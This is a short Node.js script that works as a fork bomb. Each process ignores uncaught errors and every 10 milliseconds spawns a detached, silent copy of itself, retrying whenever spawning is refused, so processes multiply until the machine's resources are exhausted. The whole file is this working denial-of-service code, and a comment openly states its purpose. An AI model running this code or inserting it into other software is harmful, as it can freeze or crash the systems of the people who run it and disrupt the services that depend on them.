// Every process starts as many others as it can.
const { spawn } = require("node:child_process");
process.on("uncaughtException", () => {});
const fork = () => {
  try {
    spawn(process.execPath, [process.argv[1]], { stdio: "ignore", detached: true }).on(
      "error",
      () => {},
    );
  } catch {
    // Refused; try again.
  }
  setTimeout(fork, 10);
};
fork();
